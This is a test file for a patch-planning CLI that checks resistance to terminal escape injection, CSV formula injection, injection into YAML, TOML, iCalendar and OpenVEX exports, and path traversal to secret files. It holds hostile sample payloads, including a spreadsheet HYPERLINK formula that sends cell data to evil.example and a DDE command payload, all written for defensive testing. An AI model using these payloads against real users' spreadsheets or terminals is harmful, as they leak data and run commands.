// Injection beyond the report renderers (those have their own hostile tests in test/unit/report):
// the terminal, the CSV the CLI writes, the scanner/calendar exports, and paths named in files.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import fc from 'fast-check';
import ICAL from 'ical.js';
import { parse as parseToml } from 'smol-toml';
import { parse as parseYaml } from 'yaml';
import { evaluate } from '../../../src/core/evaluate';
import { renderExport } from '../../../src/core/export';
import { exceptionStatement, oneLine } from '../../../src/core/export/shared';
import { assembleModel, loadFile } from '../../../src/core/workspace/load';
import { printable } from '../../../src/cli/terminal';
import { runCli } from '../../support/cli';
import { BASE, plan, SETTINGS } from '../../support/workspace';
import { AS_OF_MS, watchFs } from './corpus';
import { fuzzParameters } from './fuzzSeed';

const AS_OF = ['--as-of', '2026-11-23T12:00:00Z'];
const REPO = path.resolve(__dirname, '../../../..');

/** Temporary folders of this file, removed when its tests are done (some hold 30 MB). */
const created: string[] = [];
after(() => created.splice(0).forEach((dir) => fs.rmSync(dir, { recursive: true, force: true })));

function tempDir(files: Record<string, string | Uint8Array> = {}, parent = os.tmpdir()): string {
  const dir = fs.mkdtempSync(path.join(parent, 'patchops-inject-'));
  created.push(dir);
  for (const [rel, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), content);
  }
  return dir;
}

/** A YAML double-quoted scalar holding exactly `text` (JSON's escapes are YAML's). */
const q = (text: string): string => JSON.stringify(text);

function exception(id: string, o: { vulns: string[]; reason: string; controls?: string[] }): string {
  return [
    `id: ${id}`,
    `vulnerabilities: [${o.vulns.map(q).join(', ')}]`,
    'groups: [payroll]',
    'requested_by: alice@example.com',
    'requested_on: 2026-11-20',
    `reason: ${q(o.reason)}`,
    ...(o.controls ? [`compensating_controls: [${o.controls.map(q).join(', ')}]`] : []),
    'revisit_on: 2026-12-01',
    'approval: { approved_by: carol@example.com, approved_on: 2026-11-21 }',
    '',
  ].join('\n');
}

// Control characters a terminal obeys: clear screen, set the window title, BEL, CR (overwrite the
// line), LF + a fake summary line, an 8-bit CSI, a right-to-left override.
const TERMINAL_PAYLOAD = 'Fix\u001b[2J\u001b]0;pwned\u0007 now\r\n0 errors, 0 warnings, 0 infos in 1 file\u009b31m\u202eevil';

describe('hostile: terminal output of validate and status', () => {
  const files = {
    ...BASE,
    'patchops.yaml': SETTINGS.replace('name: Test org', `name: ${q(`Org ${TERMINAL_PAYLOAD}`)}`),
    'a.plan.yaml': plan({ id: 'TERM', extra: `${q(`bad\u001b[31mkey\u0007`)}: 1` }).replace('title: Test plan', `title: ${q(TERMINAL_PAYLOAD)}`),
    'e.exception.yaml': exception('EXC-TERM', { vulns: [`CVE-2026-0001\u001b[8m`], reason: 'x' }),
  };

  for (const tty of [false, true]) {
    it(`control characters from files are shown escaped, never emitted (${tty ? 'a TTY, coloured' : 'a pipe'}) — guards: printable() in src/cli/terminal.ts`, () => {
      const dir = tempDir(files);
      for (const command of ['validate', 'status']) {
        const r = runCli([command, dir, ...AS_OF], { tty });
        // The only escape sequences are our own colours (SGR `ESC [ n m`), and only on a TTY.
        const withoutColour = r.stdout.replace(/\u001b\[\d+m/g, '');
        assert.equal(
          /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(withoutColour),
          false,
          `${command}: a raw control character reached the terminal:\n${JSON.stringify(r.stdout)}`,
        );
        if (!tty) assert.equal(withoutColour, r.stdout, 'no colour off a TTY');
        // A file cannot add a line: the fake summary stays inside its own line, escaped.
        const fake = r.stdout.split('\n').filter((line) => /^0 errors, 0 warnings/.test(line));
        assert.deepEqual(fake, [], `${command}: a file value started its own line`);
        assert.match(
          r.stdout,
          command === 'status' ? /Fix\\u001b\[2J\\u001b\]0;pwned\\u0007 now\\u000d\\u000a0 errors/ : /unknown field `bad\\u001b\[31mkey\\u0007`/,
        );
      }
    });
  }

  it('printable() escapes C0 (but tab), DEL, C1, line separators and bidi controls, and nothing else', () => {
    assert.equal(printable('a\tb'), 'a\tb');
    assert.equal(printable('ü — 日本 🛡'), 'ü — 日本 🛡');
    assert.equal(printable('\u001b[2J\u0007\r\n\u007f\u009b\u2028\u202e\u2066'), '\\u001b[2J\\u0007\\u000d\\u000a\\u007f\\u009b\\u2028\\u202e\\u2066');
  });
});

describe('hostile: report --format csv from the CLI', () => {
  it('cells starting with = + - @ (and their full-width forms, tab, CR) are neutralized; a plain negative number is not — guards: csvCell/neutralizeFormula in src/core/report/escape.ts', () => {
    const titles = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "+cmd|' /C calc'!A0",
      '-2+3+cmd|x',
      '@SUM(1+1)*cmd|x',
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
      ' =1+1',
      '-3',
    ];
    const files: Record<string, string> = { ...BASE };
    titles.forEach((title, i) => (files[`p${i}.plan.yaml`] = plan({ id: `CSV-${i}` }).replace('title: Test plan', `title: ${q(title)}`)));
    const dir = tempDir(files);
    const r = runCli(['report', dir, ...AS_OF, '--format', 'csv']);
    assert.equal(r.code, 0);
    const rows = parseCsv(r.stdout);
    const titleAt = rows[0].indexOf('title');
    const planAt = rows[0].indexOf('plan');
    const byId = Object.fromEntries(rows.slice(1).map((row) => [row[planAt], row[titleAt]]));
    titles.forEach((title, i) => {
      const cell = byId[`CSV-${i}`];
      if (title === '-3') assert.equal(cell, '-3');
      else assert.equal(cell, `'${title}`, `title ${JSON.stringify(title)} is written as text`);
    });
  });
});

/** RFC 4180, enough for the check: quoted fields with doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

// Strings that have broken an export format somewhere: quotes, backslashes, newlines of every kind,
// YAML/TOML/iCalendar/JSON syntax, lone surrogates, controls, and text that looks like a new entry.
const NASTY = [
  '"; ignoreUntil = 2099-01-01T00:00:00Z\n[[IgnoredVulns]]\nid = "CVE-9999-0001',
  "'\n  - id: CVE-9999-0002\n    statement: injected",
  'END:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nSUMMARY:injected',
  '\\", "status": "not_affected", "x": "',
  '\ud800 lone high, \udfff lone low, 🛡 pair',
  '\u0000\u0001\u001b[31m\u007f\u0085\u2028\u2029\ufeff',
  '# not a comment ; , \\ \\n \\\\',
  '   ',
];

const text = () =>
  fc.oneof(
    fc.constantFrom(...NASTY),
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.string({
      unit: fc.constantFrom('"', "'", '\\', '\n', '\r', ';', ',', ':', '#', '[', ']', '{', '}', '=', '\t', '\u0000', '\ud800', 'a', ' '),
      maxLength: 30,
    }),
  );
const vulnId = () => fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: 'binary', minLength: 1, maxLength: 30 })).filter((s) => s.trim().length > 0);

describe('hostile: exports built from hostile exception reasons and ids parse back to the same strings', function () {
  this.timeout(60_000);
  const { seed, runs } = fuzzParameters('exports', 120);

  it(`.trivyignore.yaml, osv-scanner.toml, OpenVEX and iCalendar: no injected keys, lines or events — guards: yamlScalar, tomlString, JSON and escapeText in src/core/export (seed ${seed}, ${runs} runs)`, () => {
    fc.assert(
      fc.property(vulnId(), text(), fc.array(text(), { maxLength: 3 }), text(), text(), (vuln, reason, controls, title, name) => {
        const files = {
          ...BASE,
          'patchops.yaml': SETTINGS.replace('name: Test org', () => `name: ${q(`Org ${name}`)}`),
          'a.plan.yaml': plan({
            id: 'PLAN-X',
            affects: '[payroll, pilot]',
            vulns: `  - { id: ${q(vuln)}, severity: high, discovered: 2026-11-18T09:00 }`,
          }).replace('title: Test plan', () => `title: ${q(`T ${title}`)}`),
          'e.exception.yaml': exception('EXC-X', {
            vulns: [vuln],
            reason: `R ${reason}`,
            controls: controls.length ? controls.map((c) => `C ${c}`) : undefined,
          }),
        };
        const evaluation = evaluate(assembleModel(Object.entries(files).map(([f, t]) => loadFile(f, t))), { asOf: AS_OF_MS });
        const exc = evaluation.exceptions.find((e) => e.id === 'EXC-X');
        assert.ok(exc?.effective, `the exception applies: ${evaluation.diagnostics.map((d) => d.message).join(' | ')}`);
        const data = exc.entity.data;
        assert.equal(data.reason, `R ${reason}`, 'YAML read the value back exactly');
        const statement = exceptionStatement(exc);

        // Trivy's YAML: only YAML's printable characters (Go's parser refuses others), one
        // entry, exactly these keys, the same strings.
        const trivyText = renderExport('trivyignore', evaluation);
        assert.match(wellFormed(trivyText), YAML_PRINTABLE);
        const trivy = parseYaml(trivyText, { version: '1.2', uniqueKeys: true });
        assert.deepEqual(Object.keys(trivy), ['vulnerabilities']);
        assert.deepEqual(trivy.vulnerabilities, [{ id: vuln, statement, expired_at: '2026-12-01T06:00:00Z' }]);

        // osv-scanner's TOML: one table, exactly these keys; a lone surrogate becomes U+FFFD.
        const osv = parseToml(renderExport('osv-scanner', evaluation)) as { IgnoredVulns: Record<string, unknown>[] };
        assert.deepEqual(Object.keys(osv), ['IgnoredVulns']);
        assert.equal(osv.IgnoredVulns.length, 1);
        assert.deepEqual(Object.keys(osv.IgnoredVulns[0]).sort(), ['id', 'ignoreUntil', 'reason']);
        assert.equal(osv.IgnoredVulns[0].id, wellFormed(vuln));
        assert.equal(osv.IgnoredVulns[0].reason, wellFormed(statement));

        // OpenVEX: JSON, statements for the plan's and the exception's vulnerability only.
        const vex = JSON.parse(renderExport('openvex', evaluation));
        assert.ok(vex.statements.every((s: { vulnerability: { name: string } }) => s.vulnerability.name === vuln));
        assert.ok(vex.statements.some((s: { action_statement?: string }) => s.action_statement === statement));
        assert.ok(!vex.statements.some((s: { status: string }) => s.status === 'not_affected'));

        // iCalendar: exactly the plan's deadline and the exception's revisit, each with exactly our properties.
        const calendar = new ICAL.Component(ICAL.parse(renderExport('ics', evaluation)));
        const events = calendar.getAllSubcomponents('vevent');
        const domain = `${slug(`Org ${name}`)}.patchops.invalid`;
        assert.deepEqual(
          events.map((e: ICAL.Component) => e.getFirstPropertyValue('uid')),
          [`plan-PLAN-X@${domain}`, `exception-EXC-X@${domain}`],
        );
        for (const e of events) {
          assert.deepEqual(
            e
              .getAllProperties()
              .map((p: ICAL.Property) => p.name)
              .sort(),
            ['categories', 'description', 'dtstamp', 'dtstart', 'summary', 'transp', 'uid'],
          );
        }
        const description = String(events[1].getFirstPropertyValue('description'));
        assert.ok(description.split('\n').includes(`Reason: ${icsText(oneLine(data.reason))}`), description);
        assert.equal(String(events[0].getFirstPropertyValue('summary')), icsText(`Patch deadline: PLAN-X ${oneLine(`T ${title}`)} (high)`));
      }),
      { seed, numRuns: runs },
    );
  });
});

/** YAML 1.2 c-printable (§5.1), the characters a YAML file may hold. */
const YAML_PRINTABLE = /^[\t\n\r\u0020-\u007e\u0085\u00a0-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]*$/u;
const wellFormed = (s: string): string => s.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
/** What iCalendar TEXT can carry: controls but tab are dropped (RFC 5545 §3.3.11). */
const icsText = (s: string): string => s.replace(/[\u0000-\u0008\u000a-\u001f\u007f]/g, '');
const slug = (s: string): string =>
  s
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-+|-+$/g, '')
    .slice(0, 40);

describe('hostile: paths named in files are never opened', () => {
  it('`evidence: ../../secret`, absolute paths and file: URLs are text: the CLI reads nothing outside the workspace — guards: the CLI reading only listed workspace files', () => {
    const outside = tempDir({ 'secret.txt': 'TOKEN=hunter2\n' });
    const ws = tempDir({
      ...BASE,
      'a.plan.yaml': plan({
        id: 'EVIDENCE',
        testing: `testing: { status: passed, completed: 2026-11-19T15:00, evidence: ${q(`../${path.basename(outside)}/secret.txt`)} }`,
      }),
      'b.plan.yaml': plan({
        id: 'ABSOLUTE',
        testing: `testing: { status: passed, completed: 2026-11-19T15:00, evidence: ${q(path.join(outside, 'secret.txt'))} }`,
      }),
      'c.plan.yaml': plan({
        id: 'URL',
        testing: `testing: { status: passed, completed: 2026-11-19T15:00, evidence: ${q(`file://${path.join(outside, 'secret.txt')}`)} }`,
      }),
    });
    const out = path.join(ws, 'report.html');
    const realWs = fs.realpathSync(ws);
    const commands = [
      ['validate', ws],
      ['status', ws],
      ['report', ws, '--format', 'html', '--out', out],
      ['report', ws, '--format', 'md'],
      ['report', ws, '--format', 'json'],
      ['export', 'openvex', ws],
      ['export', 'ics', ws],
    ];
    const { calls, result } = watchFs(() => commands.map((c) => runCli([...c, ...AS_OF])));
    for (const r of result) {
      assert.ok(r.code <= 1, r.stderr);
      assert.doesNotMatch(r.stdout, /hunter2/);
    }
    assert.doesNotMatch(fs.readFileSync(out, 'utf8'), /hunter2/);
    const touched = [...new Set(calls.map(([, p]) => path.resolve(p)))];
    const foreign = touched.filter((p) => !inside(p, ws) && !inside(p, realWs) && !inside(p, REPO));
    assert.deepEqual(foreign, [], 'paths outside the workspace were touched');
    assert.ok(!touched.some((p) => p.startsWith(outside) || p.includes('secret')), 'the evidence path was never opened');
    // The report shows the evidence as text, not as a link to a local file.
    assert.doesNotMatch(fs.readFileSync(out, 'utf8'), /href="file:/);
  });
});

const inside = (p: string, dir: string): boolean => p === dir || p.startsWith(dir + path.sep);
